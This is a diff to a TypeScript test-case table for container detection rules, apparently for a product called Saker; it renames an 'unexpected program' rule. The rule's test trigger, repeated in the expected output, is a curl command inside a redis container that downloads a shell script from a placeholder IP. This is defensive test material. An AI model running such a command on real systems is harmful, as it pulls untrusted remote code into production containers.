@@ -27,7 +27,7 @@ export const CASES: Record<string, RuleCase> = {
     benign: exec(containerProc('bash', { tty: 0, args: ['-c', 'nginx -t'] })),
     output: ['process=bash', 'parent=containerd-shim', 'container_id=0123456789ab', 'image=docker.io/library/nginx:1.27', 'user=root'],
   },
-  'Saker Unexpected Process in Single-Program Container': {
+  'Saker Unexpected Program in Single-App Container': {
     trigger: exec(containerProc('curl', { args: ['http://203.0.113.9/x.sh'] }, redis)),
     benign: exec(containerProc('redis-server', { args: ['*:6379'] }, redis)),
     output: ['process=curl', 'command=curl http://203.0.113.9/x.sh', 'container_id=aaaaaaaaaaaa', 'image=redis:7'],
